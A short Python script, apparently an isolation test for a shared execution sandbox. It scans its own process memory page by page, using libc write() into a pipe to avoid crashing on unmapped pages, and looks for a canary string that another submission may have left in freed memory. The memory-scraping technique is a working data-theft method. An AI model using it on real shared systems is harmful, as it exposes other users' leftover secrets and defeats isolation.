"""Steal: what a neighbour's submission left behind in memory that was freed, page by page, with no crash on a hole."""

import ctypes
import gc
import os

needle = b"canary-" + b"5e2d-nobody"
libc = ctypes.CDLL(None, use_errno=True)
libc.sbrk.restype = ctypes.c_void_p
libc.write.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t]
reading, writing = os.pipe()
starts = {id(thing) >> 20 << 20 for thing in gc.get_objects()[::7]}
top = libc.sbrk(0) >> 20 << 20
starts |= {top - k * 2**20 for k in range(-1, 64)}
read = 0
for start in sorted(starts)[:400]:
    for page in range(start, start + 2**20, 2**15):
        if libc.write(writing, page, 2**15) != 2**15:
            continue
        content = os.read(reading, 2**15)
        read += len(content)
        at = content.find(needle)
        if at >= 0 and b"needle" not in content[max(0, at - 200) : at + 200]:
            print("found:", content[max(0, at - 50) : at + 100])
print(read, "bytes read")
